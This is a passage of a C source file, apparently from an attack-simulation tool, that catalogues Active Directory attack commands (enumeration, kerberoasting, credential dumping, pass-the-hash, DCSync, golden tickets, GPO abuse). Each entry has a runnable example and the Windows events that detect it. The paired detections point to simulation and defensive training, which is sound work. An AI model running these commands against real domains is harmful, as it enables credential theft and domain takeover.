/*
 * attack vocab: the commands of both modes, one entry each, and the lookups over them.
 * Placeholders in usage are {lower_case}; the unit test fills them in and checks that the
 * pattern still matches, and that every example matches, so the three cannot drift apart.
 */
#include <string.h>

#include "attack/attack.h"

#define L(...) ((const char *const[]){ __VA_ARGS__, NULL })
#define E(name) ATTACK_BIT(name)
#define NONE ((const char *const[]){ NULL })

/* Credentials on the command line, in the spellings of the open tools. */
#define IMP_CREDS "{domain}/{user}:'{password}'"

const struct attack_cmd attack_cmds[] = {
	/* ---- kali: enumeration ------------------------------------------------------------ */
	{ "port-scan", ATTACK_KALI, "T1046", E(CanReach), NULL, ATTACK_FX_DISCOVER,
	  "^nmap( -[^ ]+)* -p ?[^ ]+ [^ ]+$",
	  "Finds the hosts of a subnet and the services they expose to this one.",
	  "nmap -sS -Pn -p {ports} {subnet}",
	  L("nmap -sS -Pn -p 22,88,135,389,445,3389,5985 10.10.20.0/24"),
	  L("Firewall: many short connections from one source to many ports",
	    "IDS: TCP SYN scan signature") },
	{ "user-enum", ATTACK_KALI, "T1087.002", ATTACK_NO_EDGE, NULL, ATTACK_FX_DISCOVER,
	  "^kerbrute userenum -d [^ ]+ --dc [^ ]+ [^ ]+$",
	  "Finds which account names exist by asking the KDC, without a password.",
	  "kerbrute userenum -d {domain} --dc {dc_ip} {users_file}",
	  L("kerbrute userenum -d corp.local --dc 10.10.10.10 names.txt"),
	  L("4768: Kerberos TGT requested (many, from one address)",
	    "4771: Kerberos pre-authentication failed") },
	{ "ldap-enum", ATTACK_KALI, "T1087.002", ATTACK_NO_EDGE, NULL, ATTACK_FX_DISCOVER,
	  "^ldapsearch .*-H ldaps?://[^ ]+ .*-b [^ ]+",
	  "Lists users, groups and computers of a domain over LDAP with any domain account.",
	  "ldapsearch -x -H ldap://{dc_ip} -D '{user}@{domain}' -w '{password}' -b '{base_dn}' '(objectClass=user)' sAMAccountName",
	  L("ldapsearch -x -H ldap://10.10.10.10 -D 'jdoe@corp.local' -w 'Summer2025!' -b 'DC=corp,DC=local' '(objectClass=user)' sAMAccountName"),
	  L("1644: expensive LDAP search (when field engineering logging is on)",
	    "4662: an operation was performed on an object (with a SACL)") },
	{ "bloodhound-collect", ATTACK_KALI, "T1482", ATTACK_NO_EDGE, NULL, ATTACK_FX_DISCOVER,
	  "^bloodhound-python( -[^ ]+ [^ ]+)* -c [A-Za-z,]+",
	  "Collects groups, sessions, local admins and ACLs of the domain into a graph.",
	  "bloodhound-python -d {domain} -u {user} -p '{password}' -ns {dc_ip} -c All",
	  L("bloodhound-python -d corp.local -u jdoe -p 'Summer2025!' -ns 10.10.10.10 -c All"),
	  L("4662: directory object access in bulk", "4624: network logons (type 3) on many hosts",
	    "5145: IPC$ access for SAMR and session enumeration") },
	{ "share-enum", ATTACK_KALI, "T1135", ATTACK_NO_EDGE, NULL, ATTACK_FX_DISCOVER,
	  "^nxc smb [^ ]+ -u [^ ]+ -p [^ ]+ --shares$",
	  "Lists the SMB shares of hosts and what this account may read or write on them.",
	  "nxc smb {target} -u {user} -p '{password}' --shares",
	  L("nxc smb 10.10.30.0/24 -u jdoe -p 'Summer2025!' --shares"),
	  L("4624: network logon (type 3)", "5140: a network share object was accessed") },
	/* ---- kali: credentials ------------------------------------------------------------- */
	{ "kerberoast", ATTACK_KALI, "T1558.003", ATTACK_NO_EDGE, "spns", ATTACK_FX_CREDENTIAL,
	  "^impacket-GetUserSPNs [^ ]+ .*-request",
	  "Requests service tickets of accounts with an SPN; crack them offline for the password.",
	  "impacket-GetUserSPNs " IMP_CREDS " -dc-ip {dc_ip} -request -outputfile {outfile}",
	  L("impacket-GetUserSPNs corp.local/jdoe:'Summer2025!' -dc-ip 10.10.10.10 -request -outputfile tgs.txt"),
	  L("4769: Kerberos service ticket requested with RC4 (0x17) for a user account") },
	{ "asrep-roast", ATTACK_KALI, "T1558.004", ATTACK_NO_EDGE, "dont_req_preauth",
	  ATTACK_FX_CREDENTIAL,
	  "^impacket-GetNPUsers [^ ]+/ .*-format (hashcat|john)",
	  "Asks for TGTs of accounts that do not require pre-authentication; crack them offline.",
	  "impacket-GetNPUsers {domain}/ -usersfile {users_file} -dc-ip {dc_ip} -format hashcat -outputfile {outfile}",
	  L("impacket-GetNPUsers corp.local/ -usersfile names.txt -dc-ip 10.10.10.10 -format hashcat -outputfile asrep.txt"),
	  L("4768: Kerberos TGT requested with pre-authentication type 0") },
	{ "crack-hash", ATTACK_KALI, "T1110.002", ATTACK_NO_EDGE, NULL, ATTACK_FX_CREDENTIAL,
	  "^hashcat -m [^ ]+ [^ ]+ [^ ]+",
	  "Recovers passwords from roasted tickets or NT hashes with a wordlist (offline).",
	  "hashcat -m {hash_mode} {hash_file} {wordlist}",
	  L("hashcat -m 13100 tgs.txt rockyou.txt", "hashcat -m 18200 asrep.txt rockyou.txt"),
	  NONE },
	{ "password-spray", ATTACK_KALI, "T1110.003", ATTACK_NO_EDGE, NULL, ATTACK_FX_CREDENTIAL,
	  "^nxc smb [^ ]+ -u [^ ]+ -p [^ ]+ --continue-on-success$",
	  "Tries one common password against many accounts, below the lockout threshold.",
	  "nxc smb {dc_ip} -u {users_file} -p '{password}' --continue-on-success",
	  L("nxc smb 10.10.10.10 -u names.txt -p 'Winter2025!' --continue-on-success"),
	  L("4625: failed logons for many accounts from one address",
	    "4771: Kerberos pre-authentication failed") },
	{ "secretsdump", ATTACK_KALI, "T1003.002", E(AdminTo) | E(HasSession), NULL,
	  ATTACK_FX_CREDENTIAL,
	  "^impacket-secretsdump( -hashes [^ ]+)? [^ ]+@[^ ]+$",
	  "Dumps the SAM, LSA secrets and cached logons of a host where the account is admin.",
	  "impacket-secretsdump " IMP_CREDS "@{target_host}",
	  L("impacket-secretsdump corp.local/helpdesk1:'P@ssw0rd1'@WS0042.corp.local",
	    "impacket-secretsdump -hashes :31d6cfe0d16ae931b73c59d7e0c089c0 corp.local/adm.jdoe@SRV0007.corp.local"),
	  L("4624: network logon (type 3)", "7036: RemoteRegistry service started",
	    "4656: handle to the SAM or SECURITY hive requested") },
	{ "lsass-dump", ATTACK_KALI, "T1003.001", E(HasSession), NULL, ATTACK_FX_CREDENTIAL,
	  "^nxc smb [^ ]+ -u [^ ]+ (-p|-H) [^ ]+ -M lsassy$",
	  "Reads the secrets of the users logged on to a host (needs admin on it).",
	  "nxc smb {target_host} -u {user} -H {nt_hash} -M lsassy",
	  L("nxc smb WS0042.corp.local -u helpdesk1 -H 8846f7eaee8fb117ad06bdd830b7586c -M lsassy"),
	  L("Sysmon 10: lsass.exe opened with PROCESS_VM_READ",
	    "4624: network logon (type 3)", "7045: a service was installed") },
	/* ---- kali: lateral movement -------------------------------------------------------- */
	{ "pass-the-hash", ATTACK_KALI, "T1550.002", E(AdminTo), NULL, ATTACK_FX_EXECUTE,
	  "^impacket-psexec (-hashes :?[^ ]+ |-k -no-pass )?[^ ]+@[^ ]+$",
	  "Runs a SYSTEM shell on a host where the account is local admin, with its NT hash.",
	  "impacket-psexec -hashes :{nt_hash} {domain}/{user}@{target_host}",
	  L("impacket-psexec -hashes :8846f7eaee8fb117ad06bdd830b7586c corp.local/adm.jdoe@SRV0007.corp.local",
	    "impacket-psexec -k -no-pass corp.local/Administrator@SRV0007.corp.local"),
	  L("4624: network logon (type 3) with NTLM", "7045: a service was installed",
	    "5145: ADMIN$ share accessed") },
	{ "wmiexec", ATTACK_KALI, "T1047", E(AdminTo), NULL, ATTACK_FX_EXECUTE,
	  "^impacket-wmiexec [^ ]+@[^ ]+( .+)?$",
	  "Runs commands on a host where the account is local admin through WMI.",
	  "impacket-wmiexec " IMP_CREDS "@{target_host}",
	  L("impacket-wmiexec corp.local/adm.jdoe:'P@ssw0rd1'@SRV0007.corp.local"),
	  L("4624: network logon (type 3)", "4688: cmd.exe started by WmiPrvSE.exe") },
	{ "rdp", ATTACK_KALI, "T1021.001", E(CanRDP), NULL, ATTACK_FX_EXECUTE,
	  "^xfreerdp /v:[^ ]+ /u:[^ ]+ /d:[^ ]+ (/p:|/pth:)[^ ]+",
	  "Opens an interactive desktop session on a host the account may log on to remotely.",
	  "xfreerdp /v:{target_host} /u:{user} /d:{domain} /p:'{password}'",
	  L("xfreerdp /v:WS0042.corp.local /u:jdoe /d:corp.local /p:'Summer2025!'"),
	  L("4624: remote interactive logon (type 10)", "4778: session reconnected",
	    "1149: RDP user authentication succeeded") },
	{ "psremote", ATTACK_KALI, "T1021.006", E(CanPSRemote), NULL, ATTACK_FX_EXECUTE,
	  "^evil-winrm -i [^ ]+ -u [^ ]+ (-p|-H) [^ ]+$",
	  "Opens a PowerShell remoting session (WinRM) on a host that allows the account.",
	  "evil-winrm -i {target_host} -u {user} -p '{password}'",
	  L("evil-winrm -i SRV0007.corp.local -u jdoe -p 'Summer2025!'"),
	  L("4624: network logon (type 3)", "WinRM 91: session created",
	    "4104: PowerShell script block logged") },
	{ "dcom-exec", ATTACK_KALI, "T1021.003", E(ExecuteDCOM), NULL, ATTACK_FX_EXECUTE,
	  "^impacket-dcomexec -object [A-Za-z0-9]+ [^ ]+@[^ ]+ .+$",
	  "Runs a command on a host through a DCOM object the account may launch.",
	  "impacket-dcomexec -object MMC20 " IMP_CREDS "@{target_host} '{command}'",
	  L("impacket-dcomexec -object MMC20 corp.local/jdoe:'Summer2025!'@SRV0007.corp.local 'whoami'"),
	  L("4624: network logon (type 3)", "4688: process started by mmc.exe") },
	{ "use-credential", ATTACK_KALI, "T1078.002", E(HasCredential), NULL,
	  ATTACK_FX_IMPERSONATE,
	  "^nxc (smb|ldap|winrm) [^ ]+ -u [^ ]+ (-p|-H) [^ ]+$",
	  "Checks a credential found on a host (file, share, LSA secret) and logs on with it.",
	  "nxc smb {target_host} -u {target_user} -p '{found_password}'",
	  L("nxc smb 10.10.10.10 -u svc_backup -p 'Backup#2019'"),
	  L("4624: network logon (type 3) as the found account", "4776: NTLM credential validation") },
	{ "loot-share", ATTACK_KALI, "T1552.001", E(HasCredential), NULL, ATTACK_FX_CREDENTIAL,
	  "^smbclient //[^ ]+/[^ ]+ -U [^ ]+ -c 'get [^']+'$",
	  "Downloads a file, script or GPP XML from a share that holds a credential.",
	  "smbclient //{target_host}/{share} -U '{domain}/{user}%{password}' -c 'get {path}'",
	  L("smbclient //FS0001.corp.local/IT -U 'corp.local/jdoe%Summer2025!' -c 'get scripts/backup.ps1'"),
	  L("5145: file accessed on a network share", "5140: network share accessed") },
	/* ---- kali: directory object control ------------------------------------------------- */
	{ "force-change-password", ATTACK_KALI, "T1098", E(ForceChangePassword) | E(GenericAll),
	  NULL, ATTACK_FX_CONTROL,
	  "^bloodyAD .* set password [^ ]+ [^ ]+$",
	  "Resets another user's password without knowing the old one.",
	  "bloodyAD --host {dc_ip} -d {domain} -u {user} -p '{password}' set password {target_user} '{new_password}'",
	  L("bloodyAD --host 10.10.10.10 -d corp.local -u jdoe -p 'Summer2025!' set password asmith 'N3w-Passw0rd!'"),
	  L("4724: an attempt was made to reset an account's password",
	    "4738: a user account was changed") },
	{ "add-member", ATTACK_KALI, "T1098", E(AddMember) | E(GenericAll) | E(GenericWrite),
	  NULL, ATTACK_FX_CONTROL,
	  "^bloodyAD .* add groupMember ('[^']+'|[^ ]+) [^ ]+$",
	  "Adds an account to a group the attacker may write the members of.",
	  "bloodyAD --host {dc_ip} -d {domain} -u {user} -p '{password}' add groupMember '{group}' {member}",
	  L("bloodyAD --host 10.10.10.10 -d corp.local -u jdoe -p 'Summer2025!' add groupMember 'IT Helpdesk' jdoe"),
	  L("4728: member added to a security-enabled global group",
	    "4756: member added to a security-enabled universal group") },
	{ "shadow-credentials", ATTACK_KALI, "T1556", E(GenericAll) | E(GenericWrite), NULL,
	  ATTACK_FX_CREDENTIAL,
	  "^certipy shadow auto -u [^ ]+ -p [^ ]+ -account [^ ]+",
	  "Adds a key credential to the target and authenticates with it (PKINIT) for its NT hash.",
	  "certipy shadow auto -u {user}@{domain} -p '{password}' -account {target_user} -dc-ip {dc_ip}",
	  L("certipy shadow auto -u jdoe@corp.local -p 'Summer2025!' -account asmith -dc-ip 10.10.10.10"),
	  L("5136: msDS-KeyCredentialLink modified", "4768: TGT requested with PKINIT") },
	{ "targeted-kerberoast", ATTACK_KALI, "T1558.003", E(GenericWrite) | E(GenericAll), NULL,
	  ATTACK_FX_CREDENTIAL,
	  "^targetedKerberoast\\.py .*--request-user [^ ]+",
	  "Gives the target an SPN, roasts its service ticket and removes the SPN again.",
	  "targetedKerberoast.py -d {domain} -u {user} -p '{password}' --request-user {target_user} --dc-ip {dc_ip}",
	  L("targetedKerberoast.py -d corp.local -u jdoe -p 'Summer2025!' --request-user asmith --dc-ip 10.10.10.10"),
	  L("5136: servicePrincipalName modified", "4769: service ticket requested with RC4") },
	{ "rbcd-write", ATTACK_KALI, "T1134.001", E(GenericAll) | E(GenericWrite), NULL,
	  ATTACK_FX_CONTROL,
	  "^impacket-rbcd -delegate-from [^ ]+ -delegate-to [^ ]+ -action write ",
	  "Lets a computer the attacker controls act on behalf of users to the target computer.",
	  "impacket-rbcd -delegate-from {computer} -delegate-to {target_computer} -action write " IMP_CREDS " -dc-ip {dc_ip}",
	  L("impacket-rbcd -delegate-from EVIL01$ -delegate-to SRV0007$ -action write corp.local/jdoe:'Summer2025!' -dc-ip 10.10.10.10"),
	  L("5136: msDS-AllowedToActOnBehalfOfOtherIdentity modified") },
	{ "write-dacl", ATTACK_KALI, "T1222.001", E(WriteDacl) | E(Owns) | E(GenericAll), NULL,
	  ATTACK_FX_CONTROL,
	  "^impacket-dacledit -action write -rights [A-Za-z]+ -principal [^ ]+ -target [^ ]+ ",
	  "Grants the attacker full control over an object whose DACL it may write (or owns).",
	  "impacket-dacledit -action write -rights FullControl -principal {user} -target {target} " IMP_CREDS " -dc-ip {dc_ip}",
	  L("impacket-dacledit -action write -rights FullControl -principal jdoe -target 'Domain Admins' corp.local/jdoe:'Summer2025!' -dc-ip 10.10.10.10"),
	  L("5136: nTSecurityDescriptor modified",
	    "4662: WRITE_DAC performed on a directory object") },
	{ "write-owner", ATTACK_KALI, "T1222.001", E(WriteOwner), NULL, ATTACK_FX_CONTROL,
	  "^impacket-owneredit -action write -new-owner [^ ]+ -target [^ ]+ ",
	  "Makes the attacker the owner of an object, who may then rewrite its DACL.",
	  "impacket-owneredit -action write -new-owner {user} -target {target} " IMP_CREDS " -dc-ip {dc_ip}",
	  L("impacket-owneredit -action write -new-owner jdoe -target 'Server Admins' corp.local/jdoe:'Summer2025!' -dc-ip 10.10.10.10"),
	  L("5136: nTSecurityDescriptor (owner) modified", "4662: WRITE_OWNER performed") },
	{ "read-laps", ATTACK_KALI, "T1555", E(ReadLAPSPassword), NULL, ATTACK_FX_CREDENTIAL,
	  "^nxc ldap [^ ]+ -u [^ ]+ (-p|-H) [^ ]+ -M laps",
	  "Reads the local administrator password LAPS stored on a computer object.",
	  "nxc ldap {dc_ip} -u {user} -p '{password}' -M laps",
	  L("nxc ldap 10.10.10.10 -u jdoe -p 'Summer2025!' -M laps"),
	  L("4662: ms-Mcs-AdmPwd read (with a SACL on the attribute)") },
	{ "gpo-abuse", ATTACK_KALI, "T1484.001", E(GpLink) | E(GenericAll) | E(GenericWrite),
	  NULL, ATTACK_FX_EXECUTE,
	  "^pygpoabuse\\.py [^ ]+ -gpo-id [^ ]+ ",
	  "Adds an immediate scheduled task to a GPO; it runs on every computer the GPO links to.",
	  "pygpoabuse.py " IMP_CREDS " -gpo-id {gpo_guid} -command '{command}' -dc-ip {dc_ip}",
	  L("pygpoabuse.py corp.local/jdoe:'Summer2025!' -gpo-id 31B2F340-016D-11D2-945F-00C04FB984F9 -command 'net localgroup administrators jdoe /add' -dc-ip 10.10.10.10"),
	  L("5136: groupPolicyContainer modified", "4698: a scheduled task was created") },
	/* ---- kali: domain dominance ------------------------------------------------------------ */
	{ "dcsync", ATTACK_KALI, "T1003.006", E(DCSync), NULL, ATTACK_FX_CREDENTIAL,
	  "^impacket-secretsdump -just-dc(-user [^ ]+|-ntlm)? [^ ]+@[^ ]+$",
	  "Replicates password hashes from a domain controller like another DC would.",
	  "impacket-secretsdump -just-dc-user {target_user} " IMP_CREDS "@{dc_ip}",
	  L("impacket-secretsdump -just-dc-user krbtgt corp.local/adm.jdoe:'P@ssw0rd1'@10.10.10.10"),
	  L("4662: DS-Replication-Get-Changes-All requested by a non-DC account") },
	{ "s4u-impersonate", ATTACK_KALI, "T1134.001", E(AllowedToDelegate) | E(AllowedToAct),
	  NULL, ATTACK_FX_IMPERSONATE,
	  "^impacket-getST -spn [^ ]+ -impersonate [^ ]+ ",
	  "Gets a service ticket to the target as any user through (resource-based) delegation.",
	  "impacket-getST -spn cifs/{target_host} -impersonate Administrator " IMP_CREDS " -dc-ip {dc_ip}",
	  L("impacket-getST -spn cifs/SRV0007.corp.local -impersonate Administrator corp.local/svc_web:'Web#2020' -dc-ip 10.10.10.10"),
	  L("4769: service ticket requested with S4U2Self and S4U2Proxy (transited services)") },
	{ "coerce-unconstrained", ATTACK_KALI, "T1187", ATTACK_NO_EDGE,
	  "unconstrained_delegation", ATTACK_FX_IMPERSONATE,
	  "^printerbug\\.py [^ ]+@[^ ]+ [^ ]+$",
	  "Makes a DC authenticate to a host with unconstrained delegation and keeps its TGT.",
	  "printerbug.py " IMP_CREDS "@{dc_host} {listener_host}",
	  L("printerbug.py corp.local/jdoe:'Summer2025!'@DC01.corp.local SRV0007.corp.local"),
	  L("5145: spoolss pipe opened on the DC", "4624: the DC's machine account logs on to the host") },
	{ "golden-ticket", ATTACK_KALI, "T1558.001", E(TrustedBy), NULL, ATTACK_FX_IMPERSONATE,
	  "^impacket-ticketer -nthash [^ ]+ -domain-sid [^ ]+ -domain [^ ]+ ",
	  "Forges a TGT with the krbtgt hash; with an extra SID it crosses a trust.",
	  "impacket-ticketer -nthash {krbtgt_hash} -domain-sid {domain_sid} -domain {domain} -extra-sid {sid} Administrator",
	  L("impacket-ticketer -nthash 8846f7eaee8fb117ad06bdd830b7586c -domain-sid S-1-5-21-1-2-3 -domain emea.corp.local -extra-sid S-1-5-21-4-5-6-519 Administrator"),
	  L("4769: service ticket for a TGT the KDC never issued", "4624: logon with an unusual ticket lifetime") },

	/* ---- c2: enumeration ----------------------------------------------------------------- */
	{ "port-scan", ATTACK_C2, "T1046", E(CanReach), NULL, ATTACK_FX_DISCOVER,
	  "^portscan [^ ]+ [^ ]+( [a-z]+)?( [0-9]+)?$",
	  "Scans a subnet for open ports from the implant's host.",
	  "portscan {subnet} {ports} arp 1024",
	  L("portscan 10.10.20.0/24 22,445,3389,5985 arp 1024"),
	  L("Firewall: many connections from one internal host", "Sysmon 3: bursts of network connections") },
	{ "sharphound", ATTACK_C2, "T1482", ATTACK_NO_EDGE, NULL, ATTACK_FX_DISCOVER,
	  "^execute-assembly SharpHound\\.exe ",
	  "Collects groups, sessions, local admins and ACLs of the domain from inside.",
	  "execute-assembly SharpHound.exe -c All -d {domain}",
	  L("execute-assembly SharpHound.exe -c All -d corp.local"),
	  L("4662: directory object access in bulk", "5145: IPC$ access for SAMR on many hosts",
	    "Sysmon 7: CLR loaded into a process that does not use .NET") },
	{ "net-group", ATTACK_C2, "T1069.002", ATTACK_NO_EDGE, NULL, ATTACK_FX_DISCOVER,
	  "^shell net group \"[^\"]+\" /domain$",
	  "Lists the members of a domain group.",
	  "shell net group \"{group}\" /domain",
	  L("shell net group \"Domain Admins\" /domain"),
	  L("4688: net.exe started", "4799: security-enabled group membership enumerated") },
	/* ---- c2: credentials ------------------------------------------------------------------ */
	{ "kerberoast", ATTACK_C2, "T1558.003", ATTACK_NO_EDGE, "spns", ATTACK_FX_CREDENTIAL,
	  "^execute-assembly Rubeus\\.exe kerberoast( /[a-z]+(:[^ ]+)?)*$",
	  "Requests service tickets of accounts with an SPN for offline cracking.",
	  "execute-assembly Rubeus.exe kerberoast /user:{target_user} /nowrap",
	  L("execute-assembly Rubeus.exe kerberoast /user:svc_sql /nowrap"),
	  L("4769: Kerberos service ticket requested with RC4 (0x17)") },
	{ "asrep-roast", ATTACK_C2, "T1558.004", ATTACK_NO_EDGE, "dont_req_preauth",
	  ATTACK_FX_CREDENTIAL,
	  "^execute-assembly Rubeus\\.exe asreproast( /[a-z]+(:[^ ]+)?)*$",
	  "Asks for TGTs of accounts without pre-authentication for offline cracking.",
	  "execute-assembly Rubeus.exe asreproast /user:{target_user} /nowrap",
	  L("execute-assembly Rubeus.exe asreproast /user:asmith /nowrap"),
	  L("4768: Kerberos TGT requested with pre-authentication type 0") },
	{ "logonpasswords", ATTACK_C2, "T1003.001", E(HasSession), NULL, ATTACK_FX_CREDENTIAL,
	  "^logonpasswords$",
	  "Reads the secrets of every user logged on to this host (needs local admin).",
	  "logonpasswords",
	  L("logonpasswords"),
	  L("Sysmon 10: lsass.exe opened with PROCESS_VM_READ", "4656: handle to lsass.exe requested") },
	{ "hashdump", ATTACK_C2, "T1003.002", E(AdminTo), NULL, ATTACK_FX_CREDENTIAL,
	  "^hashdump$",
	  "Dumps the local SAM hashes of this host (needs local admin).",
	  "hashdump",
	  L("hashdump"),
	  L("4656: handle to the SAM hive requested", "Sysmon 10: lsass.exe accessed") },
	{ "make-token", ATTACK_C2, "T1134.003", E(HasCredential), NULL, ATTACK_FX_IMPERSONATE,
	  "^make_token [^ ]+\\\\[^ ]+ [^ ]+$",
	  "Uses a found password for network access as its owner.",
	  "make_token {domain_netbios}\\{target_user} {found_password}",
	  L("make_token CORP\\svc_backup Backup#2019"),
	  L("4624: new credentials logon (type 9)", "4648: logon with explicit credentials") },
	{ "loot-file", ATTACK_C2, "T1552.001", E(HasCredential), NULL, ATTACK_FX_CREDENTIAL,
	  "^download [^ ]+$",
	  "Downloads a file, script or GPP XML that holds a credential.",
	  "download {path}",
	  L("download \\\\FS0001\\IT\\scripts\\backup.ps1"),
	  L("5145: file accessed on a network share", "4663: object access on the file (with a SACL)") },
	/* ---- c2: lateral movement ---------------------------------------------------------------- */
	{ "pass-the-hash", ATTACK_C2, "T1550.002", E(AdminTo), NULL, ATTACK_FX_IMPERSONATE,
	  "^pth [^ ]+\\\\[^ ]+ [^ ]+$",
	  "Starts a logon session with an NT hash, for use by the next lateral movement.",
	  "pth {domain_netbios}\\{user} {nt_hash}",
	  L("pth CORP\\adm.jdoe 8846f7eaee8fb117ad06bdd830b7586c"),
	  L("4624: new credentials logon (type 9, seclogo)", "Sysmon 10: lsass.exe written to") },
	{ "jump-psexec", ATTACK_C2, "T1569.002", E(AdminTo), NULL, ATTACK_FX_EXECUTE,
	  "^jump psexec(64)? [^ ]+ [^ ]+$",
	  "Starts an implant on a host where the current token is local admin, as a service.",
	  "jump psexec64 {target_host} {listener}",
	  L("jump psexec64 SRV0007.corp.local smb"),
	  L("7045: a service was installed", "4697: a service was installed in the system",
	    "4624: network logon (type 3)") },
	{ "remote-exec-wmi", ATTACK_C2, "T1047", E(AdminTo), NULL, ATTACK_FX_EXECUTE,
	  "^remote-exec wmi [^ ]+ .+$",
	  "Runs a command on a host where the current token is local admin through WMI.",
	  "remote-exec wmi {target_host} {command}",
	  L("remote-exec wmi SRV0007.corp.local whoami"),
	  L("4688: process started by WmiPrvSE.exe", "4624: network logon (type 3)") },
	{ "jump-winrm", ATTACK_C2, "T1021.006", E(CanPSRemote), NULL, ATTACK_FX_EXECUTE,
	  "^jump winrm(64)? [^ ]+ [^ ]+$",
	  "Starts an implant on a host through PowerShell remoting.",
	  "jump winrm64 {target_host} {listener}",
	  L("jump winrm64 SRV0007.corp.local smb"),
	  L("WinRM 91: session created", "4104: PowerShell script block logged",
	    "4624: network logon (type 3)") },
	{ "sharprdp", ATTACK_C2, "T1021.001", E(CanRDP), NULL, ATTACK_FX_EXECUTE,
	  "^execute-assembly SharpRDP\\.exe computername=[^ ]+ command=",
	  "Runs a command on a host through an RDP session, without a desktop on the operator's side.",
	  "execute-assembly SharpRDP.exe computername={target_host} command=\"{command}\" username={domain_netbios}\\{user} password={password}",
	  L("execute-assembly SharpRDP.exe computername=WS0042.corp.local command=\"whoami\" username=CORP\\jdoe password=Summer2025!"),
	  L("4624: remote interactive logon (type 10)", "1149: RDP user authentication succeeded") },
	{ "dcom-exec", ATTACK_C2, "T1021.003", E(ExecuteDCOM), NULL, ATTACK_FX_EXECUTE,
	  "^execute-assembly SharpMove\\.exe action=dcom computername=[^ ]+ ",
	  "Runs a command on a host through a DCOM object (MMC20.Application).",
	  "execute-assembly SharpMove.exe action=dcom computername={target_host} command=\"{command}\" method=MMC20",
	  L("execute-assembly SharpMove.exe action=dcom computername=SRV0007.corp.local command=\"whoami\" method=MMC20"),
	  L("4688: process started by mmc.exe", "4624: network logon (type 3)") },
	/* ---- c2: directory object control ---------------------------------------------------------- */
	{ "force-change-password", ATTACK_C2, "T1098", E(ForceChangePassword) | E(GenericAll),
	  NULL, ATTACK_FX_CONTROL,
	  "^shell net user [^ ]+ [^ ]+ /domain$",
	  "Resets another user's password through SAMR.",
	  "shell net user {target_user} {new_password} /domain",
	  L("shell net user asmith N3w-Passw0rd! /domain"),
	  L("4724: an attempt was made to reset an account's password", "4688: net.exe started") },
	{ "add-member", ATTACK_C2, "T1098", E(AddMember) | E(GenericAll) | E(GenericWrite), NULL,
	  ATTACK_FX_CONTROL,
	  "^shell net group \"[^\"]+\" [^ ]+ /add /domain$",
	  "Adds an account to a domain group.",
	  "shell net group \"{group}\" {member} /add /domain",
	  L("shell net group \"IT Helpdesk\" jdoe /add /domain"),
	  L("4728: member added to a security-enabled global group", "4688: net.exe started") },
	{ "shadow-credentials", ATTACK_C2, "T1556", E(GenericAll) | E(GenericWrite), NULL,
	  ATTACK_FX_CREDENTIAL,
	  "^execute-assembly Whisker\\.exe add /target:[^ ]+",
	  "Adds a key credential to the target for PKINIT authentication as it.",
	  "execute-assembly Whisker.exe add /target:{target_user}",
	  L("execute-assembly Whisker.exe add /target:asmith"),
	  L("5136: msDS-KeyCredentialLink modified") },
	{ "rbcd-write", ATTACK_C2, "T1134.001", E(GenericAll) | E(GenericWrite), NULL,
	  ATTACK_FX_CONTROL,
	  "^execute-assembly StandIn\\.exe --computer [^ ]+ --sid [^ ]+$",
	  "Lets a principal the attacker controls act on behalf of users to the target computer.",
	  "execute-assembly StandIn.exe --computer {target_computer} --sid {sid}",
	  L("execute-assembly StandIn.exe --computer SRV0007 --sid S-1-5-21-1-2-3-1105"),
	  L("5136: msDS-AllowedToActOnBehalfOfOtherIdentity modified") },
	{ "write-dacl", ATTACK_C2, "T1222.001", E(WriteDacl) | E(Owns) | E(GenericAll), NULL,
	  ATTACK_FX_CONTROL,
	  "^powerpick Add-DomainObjectAcl -TargetIdentity [^ ]+ -PrincipalIdentity [^ ]+ -Rights [A-Za-z]+$",
	  "Grants a principal full rights over an object whose DACL the token may write.",
	  "powerpick Add-DomainObjectAcl -TargetIdentity {target} -PrincipalIdentity {user} -Rights All",
	  L("powerpick Add-DomainObjectAcl -TargetIdentity asmith -PrincipalIdentity jdoe -Rights All"),
	  L("5136: nTSecurityDescriptor modified", "4104: PowerShell script block logged") },
	{ "write-owner", ATTACK_C2, "T1222.001", E(WriteOwner), NULL, ATTACK_FX_CONTROL,
	  "^powerpick Set-DomainObjectOwner -Identity [^ ]+ -OwnerIdentity [^ ]+$",
	  "Makes a principal the owner of an object.",
	  "powerpick Set-DomainObjectOwner -Identity {target} -OwnerIdentity {user}",
	  L("powerpick Set-DomainObjectOwner -Identity SRVADM -OwnerIdentity jdoe"),
	  L("5136: nTSecurityDescriptor (owner) modified", "4104: PowerShell script block logged") },
	{ "read-laps", ATTACK_C2, "T1555", E(ReadLAPSPassword), NULL, ATTACK_FX_CREDENTIAL,
	  "^powerpick Get-DomainComputer -Identity [^ ]+ -Properties ms-Mcs-AdmPwd$",
	  "Reads the LAPS password of a computer object.",
	  "powerpick Get-DomainComputer -Identity {target_computer} -Properties ms-Mcs-AdmPwd",
	  L("powerpick Get-DomainComputer -Identity WS0042 -Properties ms-Mcs-AdmPwd"),
	  L("4662: ms-Mcs-AdmPwd read (with a SACL on the attribute)") },
	{ "gpo-abuse", ATTACK_C2, "T1484.001", E(GpLink) | E(GenericAll) | E(GenericWrite), NULL,
	  ATTACK_FX_EXECUTE,
	  "^execute-assembly SharpGPOAbuse\\.exe --Add(Computer|User)Task ",
	  "Adds an immediate scheduled task to a GPO linked to the target OU.",
	  "execute-assembly SharpGPOAbuse.exe --AddComputerTask --TaskName {task} --Author {domain_netbios}\\{user} --Command cmd.exe --Arguments \"/c {command}\" --GPOName \"{gpo_name}\"",
	  L("execute-assembly SharpGPOAbuse.exe --AddComputerTask --TaskName Update --Author CORP\\jdoe --Command cmd.exe --Arguments \"/c whoami\" --GPOName \"Workstation Baseline\""),
	  L("5136: groupPolicyContainer modified", "4698: a scheduled task was created") },
	/* ---- c2: domain dominance ------------------------------------------------------------------ */
	{ "dcsync", ATTACK_C2, "T1003.006", E(DCSync), NULL, ATTACK_FX_CREDENTIAL,
	  "^dcsync [^ ]+ [^ ]+\\\\[^ ]+$",
	  "Replicates a user's password hash from a domain controller.",
	  "dcsync {domain} {domain_netbios}\\{target_user}",
	  L("dcsync corp.local CORP\\krbtgt"),
	  L("4662: DS-Replication-Get-Changes-All requested by a non-DC account") },
	{ "s4u-impersonate", ATTACK_C2, "T1134.001", E(AllowedToDelegate) | E(AllowedToAct), NULL,
	  ATTACK_FX_IMPERSONATE,
	  "^execute-assembly Rubeus\\.exe s4u /user:[^ ]+ ",
	  "Gets a service ticket to the target as any user through (resource-based) delegation.",
	  "execute-assembly Rubeus.exe s4u /user:{user} /rc4:{nt_hash} /impersonateuser:Administrator /msdsspn:cifs/{target_host} /ptt",
